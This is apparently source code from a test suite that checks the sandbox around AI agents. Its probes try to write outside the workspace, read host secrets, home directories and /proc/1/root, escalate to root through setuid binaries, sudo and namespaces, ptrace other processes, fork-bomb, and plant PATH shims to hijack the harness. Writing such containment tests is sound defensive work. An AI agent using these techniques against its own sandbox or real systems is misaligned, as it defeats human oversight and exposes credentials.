            ...readOnly.map((d) => `if [ -d ${sh(d)} ]; then ${tryWriteDir(d)}; else ${tryAppendFile(d)}; fi`)
        ], 'the write attempts');
        if (isOutcome(r))
            return r;
        const wrote = tagged(r.stdout, 'WROTE');
        const tried = `${PROTECTED_DIRS.length + PROTECTED_FILES.length} root-filesystem paths and ${readOnly.length} read-only mount(s)`;
        if (wrote.length)
            return fail(`writable: ${list(wrote)} (of ${tried})`);
        return pass(`every write refused: ${tried}${readOnly.length ? ` (${list(readOnly, 3)})` : ''}`);
    }
};
/** Host paths the agent must not see, with whether the config mounts them (then skipped). */
function hostTargets(ctx) {
    const targets = [];
    if (ctx.host.homeMarker)
        targets.push({ label: "runner's home", path: ctx.host.homeMarker });
    targets.push({ label: 'a host directory outside the mounts', path: ctx.host.outsideMarker });
    const mounted = [
        ctx.agent.workspace,
        ...ctx.agent.contextPaths.map((c) => c.path),
        ...(ctx.agent.tempWorkspace ? [ctx.agent.tempWorkspace] : []),
        ...(ctx.config.credentials?.additionalMounts ?? []).map((m) => m.hostPath)
    ];
    for (const peer of ctx.peers) {
        if (!peer.fromConfig)
            continue;
        // Another agent's workspace that this agent's own config mounts is the config's choice (probe 19 still reports it).
        if (mounted.some((m) => (0,paths/* isInside */.F)((0,external_node_path_.resolve)(peer.markerFile), (0,external_node_path_.resolve)(m))))
            continue;
        targets.push({ label: `agent ${peer.id}'s workspace`, path: peer.markerFile });
    }
    return targets;
}
const hostPathsProbe = {
    id: 'host-paths',
    number: 3,
    title: 'host paths outside the mounts are invisible (home, other workspaces, /proc/1/root)',
    phase: 'parallel',
    async run(ctx) {
        const targets = hostTargets(ctx);
        const r = await attempts(ctx, [
            ...targets.flatMap((t) => [
                `if cat ${sh(t.path)} >/dev/null 2>&1; then echo "SEEN ${t.path}"; fi`,
                `if cat ${sh(`/proc/1/root${t.path}`)} >/dev/null 2>&1; then echo "SEEN /proc/1/root${t.path}"; fi`
            ]),
            `if (cd /proc/1/root/) 2>/dev/null; then echo "PROC1 listable"; fi`
        ], 'the read attempts');
        if (isOutcome(r))
            return r;
        const seen = tagged(r.stdout, 'SEEN');
        if (seen.length)
            return fail(`visible from the container: ${list(seen)}`);
        const homeNote = ctx.host.homeMarker
            ? ''
            : ' (no marker could be written in the home directory; it was not checked)';
        const proc1 = tagged(r.stdout, 'PROC1').length
            ? "/proc/1/root is the container's own root"
            : '/proc/1/root denied';
        return pass(`markers invisible: ${list(targets.map((t) => t.label))}, also through /proc/1/root (${proc1})${homeNote}`);
    }
};
const SIZE_SCRIPT = `
echo "FSIZE $(ulimit -f)"
while read -r dev mnt type opts rest; do
  [ "$type" = tmpfs ] || continue
  case "$mnt" in /proc*|/sys*) continue;; esac
  case ",$opts," in *,ro,*) continue;; esac
  f="$mnt/.massgen-isolation-probe-$$"
  if ( : > "$f" ) 2>/dev/null; then rm -f "$f"; echo "TMPFS $mnt $opts"; fi
done < /proc/self/mounts
`;
/** Largest tmpfs this probe fills to prove its limit (bytes). */
const MAX_FILL = 256 * 1024 * 1024;
function parseSize(opts) {
    const m = /(?:^|,)size=(\d+)([kmg]?)(?:,|$)/i.exec(opts);
    if (!m)
        return undefined;
    return (Number(m[1]) *
        ({ '': 1, k: 1024, m: 1024 ** 2, g: 1024 ** 3 }[m[2].toLowerCase()] ??
            1));
}
const sizeLimitsProbe = {
    id: 'size-limits',
    number: 17,
    title: 'tmpfs and file-size limits hold where configured',
    phase: 'disruptive',
    async run(ctx) {
        const r = await ctx.agentExec(SIZE_SCRIPT);
        const fsize = tagged(r.stdout, 'FSIZE')[0] ?? 'unlimited';
        const tmpfs = tagged(r.stdout, 'TMPFS').map((l) => {
            const [mnt, opts] = l.split(' ');
            return { mnt, opts: opts ?? '', size: parseSize(opts ?? '') };
        });
        const problems = [];
        const held = [];
        for (const t of tmpfs) {
            if (t.size === undefined) {
                problems.push(`tmpfs ${t.mnt} is writable and has no size limit`);
                continue;
            }
            if (t.size > MAX_FILL) {
                held.push(`${t.mnt} limited to ${t.size} bytes (too large to fill here)`);
                continue;
            }
            const f = `${t.mnt}/.massgen-isolation-fill-$$`;
            const want = t.size + 1024 * 1024;
            const fill = await ctx.agentExec(`head -c ${want} /dev/zero > ${sh(f)} 2>/dev/null; echo "GOT $(wc -c < ${sh(f)} 2>/dev/null || echo 0)"; rm -f ${sh(f)}`, { timeoutMs: 60_000 });
            const got = Number(tagged(fill.stdout, 'GOT')[0] ?? NaN);
            if (!Number.isFinite(got))
                problems.push(`could not fill ${t.mnt} (exit ${fill.exitCode}${fill.oom ? ', out of memory' : ''})`);
            else if (got > t.size)
                problems.push(`${t.mnt} took ${got} bytes past its ${t.size}-byte size`);
            else
                held.push(`${t.mnt} stopped at ${got} of ${want} bytes`);
        }
        if (fsize !== 'unlimited' && /^\d+$/.test(fsize)) {
            const limit = Number(fsize) * 512;
            if (limit <= MAX_FILL) {
                const f = `${ctx.scratch}/fsize-probe`;
                const w = await ctx.agentExec(`(head -c ${limit + 1024 * 1024} /dev/zero > ${sh(f)}) 2>/dev/null; echo "GOT $(wc -c < ${sh(f)} 2>/dev/null || echo 0)"; rm -f ${sh(f)}`);
                const got = Number(tagged(w.stdout, 'GOT')[0] ?? NaN);
                if (!(got <= limit))
                    problems.push(`file-size limit ${limit} bytes did not hold (wrote ${got})`);
                else
                    held.push(`file size stopped at ${got} bytes (RLIMIT_FSIZE ${limit})`);
            }
            else
                held.push(`RLIMIT_FSIZE ${limit} bytes (too large to fill here)`);
        }
        if (problems.length)
            return fail(list(problems));
        if (!held.length)
            return skip('no writable tmpfs and no file-size limit configured');
        return pass(list(held));
    }
};
/**
 * Every mount the container has below a read-only mount, as its own mount table lists them; for
 * each, `SUB <path>`, and `WROTE <path>` where a file could be made there (removed at once).
 */
function submountWrites(readOnly) {
    const dirs = readOnly.map((d) => sh(d.replace(/\/$/, ''))).join(' ');
    return `for d in ${dirs}; do
  while read -r _id _parent _dev _root mnt _rest; do
    case "$mnt" in "$d"/*)
      echo "SUB $mnt"
      f="$mnt/.massgen-isolation-probe-$$"
      if [ -d "$mnt" ] && ( : > "$f" ) 2>/dev/null; then rm -f "$f"; echo "WROTE $mnt"; fi
      if [ -f "$mnt" ] && ( : >> "$mnt" ) 2>/dev/null; then echo "WROTE $mnt"; fi;;
    esac
  done < /proc/self/mountinfo
done`;
}
const readOnlySubmountsProbe = {
    id: 'ro-submounts',
    number: 30,
    title: 'read-only mounts are read-only all the way down: a filesystem mounted below one on the host is not writable',
    phase: 'parallel',
    async run(ctx) {
        const info = await ctx.inspect();
        const readOnly = (info.Mounts ?? []).filter((m) => !m.RW).map((m) => m.Destination);
        if (!readOnly.length)
            return skip('no read-only mount in this container (no read context path or ro bind)');
        const r = await ctx.agentExec(`${submountWrites(readOnly)}\necho DONE`);
        if (!r.stdout.includes('DONE'))
            return fail(`the write attempts did not complete (exit ${r.exitCode})`);
        const below = [...new Set(tagged(r.stdout, 'SUB'))];
        const wrote = [...new Set(tagged(r.stdout, 'WROTE'))];
        if (wrote.length)
            return fail(`writable below a read-only mount: ${list(wrote)}`);
        if (!below.length)
            return skip(`no mount below the ${readOnly.length} read-only mount(s): nothing to try`);
        return pass(`${below.length} mount(s) below read-only mounts refuse writes: ${list(below, 3)}`);
    }
};
const srtWritesProbe = {
    id: 'writes-outside',
    number: 2,
    phase: 'parallel',
    title: 'writes outside the workspace and the write context paths fail (/, /etc, /usr, home, /tmp, read-only and protected paths)',
    async run(ctx) {
        const { agent, host } = ctx;
        const targets = [
            '/',
            '/etc',
            '/usr',
            '/usr/bin',
            '/opt',
            '/var/tmp',
            '/tmp',
            host.home,
            host.outsideDir,
            ...agent.contextPaths.filter((c) => c.permission === 'read').map((c) => c.path),
            ...agent.contextPaths.flatMap((c) => c.protectedPaths),
            ...(agent.tempWorkspace ? [agent.tempWorkspace] : [])
        ];
        const name = `massgen-srt-probe-${process.pid}`;
        const script = [
            ...targets.map((t) => `if (echo x > ${sh(`${t}/${name}`)}) 2>/dev/null; then echo "WROTE ${t}"; fi`),
            `if (echo x >> ${sh(host.outsideMarker)}) 2>/dev/null; then echo "WROTE ${host.outsideMarker}"; fi`,
            `if (echo x > ${sh(`${ctx.scratch}/${name}`)}) 2>/dev/null; then echo "READY"; fi`,
            'echo DONE'
        ].join('\n');
        const outsideBefore = await (0,promises_.readFile)(host.outsideMarker, 'utf8').catch(() => '');
        const r = await ctx.agentExec(script);
        if (!r.stdout.includes('DONE'))
            return fail(`the writes did not complete (exit ${r.exitCode})`);
        // A write into a hidden directory lands in the sandbox's throwaway tmpfs: only what reached
        // the host counts.
        const wrote = tagged(r.stdout, 'WROTE').filter((t) => t === host.outsideMarker ? false : (0,external_node_fs_.existsSync)(`${t}/${name}`));
        if ((await (0,promises_.readFile)(host.outsideMarker, 'utf8').catch(() => '')) !== outsideBefore)
            wrote.push(host.outsideMarker);
        for (const t of wrote)
            await (0,promises_.rm)(`${t}/${name}`, { force: true }).catch(() => undefined);
        if (wrote.length)
            return fail(`wrote into ${list(wrote)}`);
        const ready = r.stdout.includes('READY');
        if (ctx.srt.readOnly && ready)
            return fail('wrote into the workspace although read_only');
        if (!ctx.srt.readOnly && !ready)
            return fail('could not write into its own workspace, so the refusals prove nothing');
        return pass(`${targets.length + 1} writes outside refused${ctx.srt.readOnly ? ', the workspace read-only too (read_only)' : '; the workspace is writable'}`);
    }
};
const srtReadsProbe = {
    id: 'secret-reads',
    number: 3,
    phase: 'parallel',
    title: 'secret stores, deny_read paths and (per read mode) the home directory and host files cannot be read',
    async run(ctx) {
        const { host, srt } = ctx;
        const hidden = ctx.secrets.map((s) => ({
            path: s.path,
            token: s.token,
            what: s.where
        }));
        // open mode exposes $HOME by design: the marker being readable there is the weakening the
        // probe reports.
        if (host.homeMarker)
            hidden.push({ path: host.homeMarker, what: 'a marker in the home directory' });
        if (srt.readMode === 'strict') {
            hidden.push({ path: '/etc/hostname', what: '/etc/hostname (strict)' });
            hidden.push({ path: host.outsideMarker, what: 'a marker outside every agent path (strict)' });
        }
        const readable = `${ctx.scratch}/readable-${process.pid}`;
        const r = await attempts(ctx, [
            `echo ready > ${sh(readable)} 2>/dev/null || true`,
            ...hidden.map((h, i) => `if cat ${sh(h.path)} >/dev/null 2>&1; then echo "READ ${i}"; fi`),
            `if [ "$(cat ${sh(readable)} 2>/dev/null)" = ready ] || [ -r ${sh(ctx.agent.workspace)} ]; then echo READY; fi`
        ], 'the reads');
        if (isOutcome(r))
            return r;
        if (!r.stdout.includes('READY'))
            return fail('could not read its own workspace, so the refusals prove nothing');
        const leaked = hidden.filter((h) => r.stdout.includes(`READ ${hidden.indexOf(h)}\n`) || (h.token && r.stdout.includes(h.token)));
        if (leaked.length)
            return fail(`readable: ${list(leaked.map((h) => `${h.what} (${h.path})`))}${srt.readMode === 'open' ? ' — read_mode open' : ''}`);
        return pass(`${hidden.length} hidden paths unreadable (read_mode ${srt.readMode}); the workspace is readable`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/kernel.ts
// Probes 9–13: what the kernel lets an agent process do. Each is an attempt; anything that succeeds
// is reported (and undone where it changed something).

// Writing a value back unchanged: if the write is allowed, nothing changes, and we know.
const PROC_SYS = [
    '/proc/sys/kernel/core_pattern',
    '/proc/sys/kernel/domainname',
    '/proc/sys/vm/overcommit_memory',
    '/proc/sys/net/ipv4/ip_forward',
    '/proc/sys/kernel/randomize_va_space'
];
const procSysProbe = {
    id: 'proc-sys',
    number: 9,
    title: '/proc/sys and /proc/sysrq-trigger writes fail',
    phase: 'parallel',
    async run(ctx) {
        const r = await attempts(ctx, [
            ...PROC_SYS.map((f) => `if v=$(cat ${sh(f)} 2>/dev/null) && (printf '%s\\n' "$v" > ${sh(f)}) 2>/dev/null; then echo "WROTE ${f}"; fi`),
            // 'h' only prints sysrq help to the kernel log if the write were ever allowed.
            `if (printf h > /proc/sysrq-trigger) 2>/dev/null; then echo "WROTE /proc/sysrq-trigger"; fi`
        ], 'the write attempts');
        if (isOutcome(r))
            return r;
        const wrote = tagged(r.stdout, 'WROTE');
        if (wrote.length)
            return fail(`writable: ${list(wrote)}`);
        return pass(`writes refused: ${PROC_SYS.length} /proc/sys files and /proc/sysrq-trigger`);
    }
};
const SYSCALLS = `
import ctypes, errno, os, socket
def report(name, ok, why=''):
    print(('ALLOWED ' if ok else 'DENIED ') + name + (' ' + why if why else ''))
try:
    os.setresuid(0, 0, 0); report('setresuid(0)', True)
except OSError as e: report('setresuid(0)', False, errno.errorcode.get(e.errno, ''))
try:
    os.setresgid(0, 0, 0); report('setresgid(0)', True)
except OSError as e: report('setresgid(0)', False, errno.errorcode.get(e.errno, ''))
for fam, kind, proto, name in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, 'raw inet socket'), (getattr(socket, 'AF_PACKET', 17), socket.SOCK_RAW, 0, 'packet socket')]:
    try:
        socket.socket(fam, kind, proto).close(); report(name, True)
    except OSError as e: report(name, False, errno.errorcode.get(e.errno, ''))
`;
const GVISOR_USERNS = 'unshare user namespace';
const privilegedOpsProbe = {
    id: 'privileged-ops',
    number: 10,
    title: 'mount, unshare, setresuid to root, chown to root, mknod, raw sockets, hostname are denied',
    phase: 'parallel',
    async run(ctx) {
        const d = `${ctx.scratch}/privileged`;
        const attempt = (name, cmd) => `if (${cmd}) >/dev/null 2>&1; then echo "ALLOWED ${name}"; else echo "DENIED ${name}"; fi`;
        const r = await attempts(ctx, [
            `mkdir -p ${sh(d)} && : > ${sh(`${d}/file`)} && mkdir -p ${sh(`${d}/mnt`)}`,
            attempt('mount tmpfs', `mount -t tmpfs none ${sh(`${d}/mnt`)}`),
            `umount ${sh(`${d}/mnt`)} 2>/dev/null`,
            attempt('unshare user namespace', 'unshare -U true'),
            attempt('unshare user+mount namespace as root', 'unshare -Urm true'),
            attempt('unshare network namespace', 'unshare -n true'),
            attempt('setpriv to uid 0', 'setpriv --reuid=0 --regid=0 --clear-groups true'),
            // A file of our own, handed to root: allowed only with CAP_CHOWN (or when already root).
            // find, not stat: coreutils' stat uses a statx flag old gVisor releases refuse.
            attempt('chown to root', `chown 0:0 ${sh(`${d}/file`)} && [ -n "$(find ${sh(`${d}/file`)} -maxdepth 0 -user 0)" ]`),
            attempt('mknod', `mknod ${sh(`${d}/null`)} c 1 3`),
            attempt('hostname', 'hostname massgen-isolation-probe'),
            `command -v python3 >/dev/null && ${python(SYSCALLS)}`,
            `rm -rf ${sh(d)} 2>/dev/null`
        ], 'the attempts');
        if (isOutcome(r))
            return r;
        let allowed = tagged(r.stdout, 'ALLOWED');
        const denied = tagged(r.stdout, 'DENIED');
        const notes = [];
        if (ctx.runtime.gvisor && allowed.includes(GVISOR_USERNS)) {
            // gVisor implements user namespaces itself, inside the sandbox: no host privilege comes
            // with one (mounting, root and the rest are still refused, as checked here).
            allowed = allowed.filter((a) => a !== GVISOR_USERNS);
            notes.push(`${GVISOR_USERNS} allowed: gVisor's own user namespaces, inside the sandbox`);
        }
        if (allowed.length)
            return fail(`allowed: ${list(allowed)}`);
        return pass(`denied: ${denied.length} attempts (${list(denied, 12)})${notes.length ? `; ${notes.join('; ')}` : ''}`);
    }
};
const PTRACE = `
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
me = os.getuid()
targets = []
for p in os.listdir('/proc'):
    if not p.isdigit() or int(p) == os.getpid():
        continue
    try:
        uid = os.stat('/proc/' + p).st_uid
    except OSError:
        continue
    if uid != me:
        targets.append((int(p), uid))
print('TARGETS', len(targets))
for pid, uid in targets[:4]:
    r = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    if r == 0:
        os.waitpid(pid, 0)
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        print('ATTACHED', pid, uid)
    else:
        print('DENIED', pid, uid, errno.errorcode.get(ctypes.get_errno(), ''))
    for f in ('environ', 'mem'):
        try:
            with open('/proc/%d/%s' % (pid, f), 'rb') as fh:
                fh.read(1)
            print('READ', pid, f)
        except OSError:
            pass
`;
const ptraceProbe = {
    id: 'ptrace',
    number: 11,
    title: 'ptrace of a process of another uid is denied',
    phase: 'parallel',
    async run(ctx) {
        const r = await ctx.agentExec(`command -v python3 >/dev/null || { echo NOPYTHON; exit 0; }\n${python(PTRACE)}`);
        if (r.stdout.includes('NOPYTHON'))
            return skip(NO_PYTHON);
        const targets = Number(tagged(r.stdout, 'TARGETS')[0] ?? NaN);
        if (!Number.isFinite(targets))
            return fail(`the attempt did not run (exit ${r.exitCode})`);
        if (targets === 0)
            return skip('no process of another uid is visible in the container to attach to');
        const attached = tagged(r.stdout, 'ATTACHED');
        let read = tagged(r.stdout, 'READ');
        // gVisor's procfs lets any uid read another's environ (not mem). What it holds is the
        // container's Env, which the agent has anyway (probe 14 checks no secret is in it): a warning.
        const environ = ctx.runtime.gvisor ? read.filter((x) => x.endsWith(' environ')) : [];
        read = read.filter((x) => !environ.includes(x));
        if (attached.length || read.length)
            return fail([attached.length && `attached to ${list(attached)}`, read.length && `read ${list(read)}`]
                .filter(Boolean)
                .join('; '));
        const denied = tagged(r.stdout, 'DENIED').length;
        if (environ.length)
            return pass(`PTRACE_ATTACH and /proc/<pid>/mem denied for ${denied} process(es) of other uids; warn: gVisor lets other uids read /proc/<pid>/environ (${list(environ, 3)}): the container's Env, nothing the agent lacks`);
        return pass(`PTRACE_ATTACH and /proc/<pid>/environ|mem denied for ${denied} process(es) of other uids`);
    }
};
// A setuid-root binary waiting on its stdin shows its effective uid in /proc/<pid>/status.
const SETUID = `
echo "NNP $(awk '/^NoNewPrivs:/{print $2}' /proc/self/status)"
echo "UID $(id -u)"
if command -v sudo >/dev/null; then echo "SUDO $(sudo -n id -u 2>/dev/null || echo denied)"; fi
for b in chfn chsh passwd su; do
  p=$(command -v $b) || continue
  [ -u "$p" ] || continue
  ( sleep 3.217 </dev/null 2>/dev/null | "$p" >/dev/null 2>&1 & )
  sleep 0.7
  # -U: the real uid; a setuid binary that worked has another effective uid.
  for pid in $(pgrep -U "$(id -u)" -x $b); do
    echo "EUID $b $(awk '/^Uid:/{print $3}' /proc/$pid/status)"
  done
  pkill -U "$(id -u)" -x $b 2>/dev/null
  pkill -U "$(id -u)" -f '^sleep 3[.]217$' 2>/dev/null
  break
done
echo DONE
`;
const setuidProbe = {
    id: 'setuid-sudo',
    number: 12,
    title: 'setuid binaries and sudo give no root when the sudo variant is off',
    phase: 'parallel',
    async run(ctx) {
        if (ctx.config.enableSudo)
            return skip('the sudo variant is on: sudo gives root by design (see probe 1 for its capabilities)');
        const r = await ctx.agentExec(SETUID, { timeoutMs: 30_000 });
        if (!r.stdout.includes('DONE'))
            return fail(`the attempts did not complete (exit ${r.exitCode})`);
        const problems = [];
        if (tagged(r.stdout, 'UID')[0] === '0')
            problems.push('the agent already runs as root');
        const sudo = tagged(r.stdout, 'SUDO')[0];
        if (sudo === '0')
            problems.push('sudo -n gives uid 0');
        const euids = tagged(r.stdout, 'EUID');
        const rooted = euids.filter((l) => l.endsWith(' 0'));
        if (rooted.length)
            problems.push(`setuid binary ran with euid 0 (${rooted.map((l) => l.split(' ')[0]).join(', ')})`);
        // gVisor's /proc/self/status has no NoNewPrivs line; no_new_privs is always set there.
        const nnp = tagged(r.stdout, 'NNP')[0] || (ctx.runtime.gvisor ? '(no line: always on in gVisor)' : '?');
        if (problems.length)
            return fail(`${list(problems)}; NoNewPrivs ${nnp}`);
        const seen = euids.length
            ? `setuid ${euids[0].split(' ')[0]} ran with euid ${euids[0].split(' ')[1]}`
            : 'no setuid binary observed running';
        return pass(`NoNewPrivs ${nnp}; ${seen}; ${sudo === undefined ? 'no sudo in the image' : 'sudo -n refused'}`);
    }
};
const KEYCTL = `
import ctypes, errno, platform
nr = {'x86_64': 250, 'aarch64': 219}.get(platform.machine())
if nr is None:
    print('KEYCTL unknown-arch')
else:
    libc = ctypes.CDLL(None, use_errno=True)
    r = libc.syscall(nr, 0, -3, 0)  # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING)
    print('KEYCTL', 'allowed' if r >= 0 else errno.errorcode.get(ctypes.get_errno(), 'error'))
`;
const seccompProbe = {
    id: 'seccomp',
    number: 13,
    title: 'seccomp is active',
    phase: 'parallel',
    async run(ctx) {
        const r = await ctx.agentExec(`echo "MODE $(awk '/^Seccomp:/{print $2}' /proc/self/status)"\n` +
            `dmesg 2>/dev/null | grep -q 'Starting gVisor' && echo "KERNEL gvisor"\n` +
            `command -v python3 >/dev/null && ${python(KEYCTL)}\necho DONE`);
        if (!r.stdout.includes('DONE'))
            return fail(`the check did not complete (exit ${r.exitCode})`);
        const mode = tagged(r.stdout, 'MODE')[0];
        const keyctl = tagged(r.stdout, 'KEYCTL')[0];
        const problems = [];
        if (ctx.runtime.gvisor) {
            // The OCI profile is not applied inside gVisor: the agent's system calls end in gVisor's
            // kernel (the sentry), which runs under its own seccomp filter on the host.
            if (!tagged(r.stdout, 'KERNEL').includes('gvisor'))
                problems.push("the runtime is gVisor but gVisor's kernel does not answer (see probe 27)");
            if (keyctl === 'allowed')
                problems.push('keyctl is allowed');
            if (problems.length)
                return fail(list(problems));
            return pass(`gVisor: the agent's system calls are answered by gVisor's kernel, which runs under its own host seccomp filter (Seccomp mode ${mode || 'unknown'} inside); keyctl ${keyctl ?? 'not tried (no python3)'}`);
        }
        if (mode !== '2')
            problems.push(`Seccomp mode ${mode || 'unknown'} (2 = filter)`);
        if (keyctl === 'allowed')
            problems.push('keyctl (blocked by the default profile) is allowed');
        if (problems.length)
            return fail(list(problems));
        return pass(`Seccomp filter mode; keyctl ${keyctl ?? 'not tried (no python3)'}`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/processes.ts
// The agent's processes as a probe sees them after a kill: listed as root inside the container the
// way the session lists them where the engine cannot, and judged by the session's own rule (a
// zombie waiting for the init to reap it, or the init itself, is not a survivor), so that a probe
// and the kill it checks agree on what "left" means. (pgrep counted zombies: CI once failed probe
// 15 on a reap in flight.)

/** The agent's live processes (`pid args` each), or why they could not be listed. */
async function agentProcesses(ctx) {
    const r = await ctx
        .rootExec([...docker.PROCESS_LISTING])
        .catch((e) => ({ exitCode: -1, stdout: '', stderr: e.message }));
    if (r.exitCode !== 0)
        return { error: `could not list processes: ${r.stderr.slice(0, 120)}` };
    return {
        processes: (0,docker.parseProcessListing)(r.stdout)
            .filter((p) => (0,docker.isAgentSurvivor)(p, ctx.uid, false))
            .map((p) => `${p.pid} ${p.args}`)
    };
}

;// CONCATENATED MODULE: ./src/isolation/probes/lifecycle.ts
// Probes 15 and 16: a step that overruns its timeout leaves nothing of the agent running, and a
// step that floods its output is capped — both through the session, as a real step is.



const TIMEOUT_MS = 1500;
// Chains of processes that fork a child and exit at once (pids keep changing), holding the step's
// output open; bounded (32 chains) so that it cannot hurt a runner without a pids limit.
const HOPPING_BOMB = `
import os, time
for _ in range(32):
    if os.fork() == 0:
        while True:
            if os.fork() != 0:
                os._exit(0)
            time.sleep(0.01)
print('launched', flush=True)
`;
const CASES = [
    { name: 'sleep', command: 'sleep 600' },
    { name: 'setsid child', command: 'setsid sh -c "sleep 600" & sleep 600' },
    {
        name: 'nohup child with closed output',
        command: 'nohup sleep 600 >/dev/null 2>&1 </dev/null & sleep 600'
    },
    { name: 'fork bomb that returns', command: python(HOPPING_BOMB) }
];
async function leftovers(ctx) {
    const listing = await agentProcesses(ctx);
    if ('error' in listing)
        return listing.error;
    return listing.processes.length ? listing.processes.slice(0, 3).join(' | ') : undefined;
}
const timeoutsProbe = {
    id: 'timeouts',
    number: 15,
    title: 'timeouts leave no process of the agent (sleep, setsid child, fork bomb that returns)',
    phase: 'disruptive',
    async run(ctx) {
        const before = await leftovers(ctx);
        if (before)
            return fail(`processes of uid ${ctx.uid} before the probe: ${before}`);
        const problems = [];
        const notes = [];
        const cases = [...CASES];
        if (ctx.config.enableSudo)
            cases.push({ name: 'sudo child', command: 'sudo -n setsid sleep 600 & sleep 600' });
        for (const c of cases) {
            const r = await ctx.agentExec(c.command, { timeoutMs: TIMEOUT_MS });
            if (!r.timedOut) {
                problems.push(`${c.name}: did not time out (exit ${r.exitCode})`);
                continue;
            }
            if (r.note)
                notes.push(`${c.name}: ${r.note}`);
            const left = await leftovers(ctx);
            // The sudo child runs as root, outside the agent's uid: look for it by name.
            const rootLeft = c.name === 'sudo child'
                ? await ctx.rootExec(['/usr/bin/pgrep', '-f', 'sleep 600'])
                : undefined;
            if (left)
                problems.push(`${c.name}: left ${left}`);
            else if (rootLeft && rootLeft.exitCode === 0)
                problems.push(`${c.name}: a root process started through sudo survived the timeout`);
        }
        if (problems.length)
            return fail(list(problems));
        return pass(`${cases.length} overrunning steps timed out after ${TIMEOUT_MS} ms and left no process of uid ${ctx.uid}${notes.length ? ` (${list(notes, 2)})` : ''}`);
    }
};
/** Floods bigger than this are not produced; a cap at or above it is not a cap worth the name. */
const MAX_FLOOD = 64 * 1024 * 1024;
const outputFloodProbe = {
    id: 'output-flood',
    number: 16,
    title: 'output floods are capped',
    phase: 'disruptive',
    async run(ctx) {
        const cap = ctx.agent.maxOutputBytes;
        const flood = Math.min(cap * 2 + 1024 * 1024, MAX_FLOOD);
        const r = await ctx.agentExec(`head -c ${flood} /dev/zero | tr '\\0' x; head -c ${flood} /dev/zero | tr '\\0' y >&2; echo`, { timeoutMs: 120_000, maxOutputBytes: cap });
        // OutputCap keeps head and tail plus a marker line; allow for the marker.
        const slack = 4096;
        const kept = Math.max(Buffer.byteLength(r.stdout), Buffer.byteLength(r.stderr));
        const mib = (n) => `${(n / 1024 / 1024).toFixed(1)} MiB`;
        if (kept > cap + slack || !r.truncated)
            return fail(`a ${mib(flood)} flood on each stream kept ${mib(kept)}${r.truncated ? '' : ' (not truncated)'}; output cap ${mib(cap)}`);
        return pass(`a ${mib(flood)} flood on stdout and stderr kept ${mib(kept)} each at most (cap ${mib(cap)}), marked truncated`);
    }
};
/** Host-side: live processes whose argv is exactly `argv`. */
async function processesWithArgv(argv) {
    const found = [];
    for (const e of await (0,promises_.readdir)('/proc').catch(() => [])) {
        const pid = Number(e);
        if (!Number.isInteger(pid))
            continue;
        const cmd = await (0,promises_.readFile)(`/proc/${pid}/cmdline`, 'utf8').catch(() => '');
        if (cmd.split('\0').filter(Boolean).join(' ') !== argv)
            continue;
        const stat = await (0,promises_.readFile)(`/proc/${pid}/stat`, 'utf8').catch(() => '');
        if (stat && !/^\S+ \(.*\) [ZX]/.test(stat))
            found.push(pid);
    }
    return found;
}
const srtTimeoutsProbe = {
    id: 'timeouts',
    number: 15,
    phase: 'parallel',
    title: 'timeouts leave no process (sleep, background, setsid and nohup children)',
    async run(ctx) {
        const tag = `${600 + (process.pid % 300)}.${Date.now() % 100000}`;
        const argv = `sleep ${tag}`;
        const cases = [
            { name: 'sleep', command: argv },
            { name: 'background and foreground', command: `${argv} & ${argv}` },
            { name: 'setsid child', command: `setsid ${argv} & ${argv}` },
            {
                name: 'nohup child with closed output',
                command: `nohup ${argv} >/dev/null 2>&1 </dev/null & ${argv}`
            }
        ];
        const problems = [];
        for (const c of cases) {
            const r = await ctx.agentExec(c.command, { timeoutMs: 1500 });
            if (!r.timedOut) {
                problems.push(`${c.name}: did not time out (exit ${r.exitCode})`);
                continue;
            }
            const left = await processesWithArgv(argv);
            if (left.length)
                problems.push(`${c.name}: ${left.length} process(es) left (pid ${left.join(', ')})`);
            if (r.note)
                problems.push(`${c.name}: ${r.note}`);
        }
        if (problems.length)
            return fail(list(problems));
        return pass(`${cases.length} overrunning steps timed out after 1500 ms and left no process on the host`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/harness.ts
// Probe 22: the harness cannot be hijacked through the agent's PATH. The agent plants executables
// named after every program the harness (or a careless one) runs — sh, pgrep, kill, cat, … — in
// each directory of the container's PATH it can write (the image puts its own venv first), lets a
// step time out, and checks that none of them ran as root, that the step was reported as a timeout
// and that no process of the agent survived it. The shims then go again.


/** What a harness runs, or might: a shim of each name is planted. */
const SHIM_NAMES = [
    'sh',
    'bash',
    'kill',
    'pkill',
    'pgrep',
    'ps',
    'cat',
    'mkdir',
    'dirname',
    'tail',
    'head',
    'env',
    'timeout',
    'python3',
    'pip',
    'npm',
    'sudo',
    'apt-get'
];
const harness_TIMEOUT_MS = 1500;
/**
 * A shim logs its name and uid, and does nothing else: a planted `sh` swallows the harness's
 * kill, a planted `pgrep` reports that nothing is left.
 */
function shim(name, log) {
    return [
        '#!/bin/sh',
        `echo "${name} $(/usr/bin/id -u)" >> ${sh(log)}`,
        `[ "$(/usr/bin/id -u)" = 0 ] && : > /etc/massgen-shim-ran-as-root 2>/dev/null`,
        name === 'pgrep' ? 'echo 0' : ':',
        'exit 0',
        ''
    ].join('\n');
}
async function plant(ctx, log) {
    const script = [
        `: > ${sh(log)} && chmod 666 ${sh(log)}`,
        'IFS=:',
        // Root-owned system directories are left alone: an agent that can write there is root already
        // (probe 1 says so), and a shim there would replace the system's own programs.
        // find, not stat: coreutils' stat uses a statx flag old gVisor releases refuse.
        'for d in $PATH; do [ -d "$d" ] && [ -w "$d" ] && [ -z "$(find "$d" -maxdepth 0 -user 0)" ] && echo "DIR $d"; done'
    ].join('\n');
    const r = await ctx.agentExec(script);
    const dirs = tagged(r.stdout, 'DIR');
    for (const dir of dirs) {
        const writes = SHIM_NAMES.map((name) => `printf '%s' ${sh(shim(name, log))} > ${sh(`${dir}/${name}`)} && chmod 755 ${sh(`${dir}/${name}`)}`);
        // A shim must not replace what was there for good: the originals are kept aside.
        const keep = SHIM_NAMES.map((name) => `[ -e ${sh(`${dir}/${name}`)} ] && mv ${sh(`${dir}/${name}`)} ${sh(`${dir}/.massgen-kept-${name}`)}`);
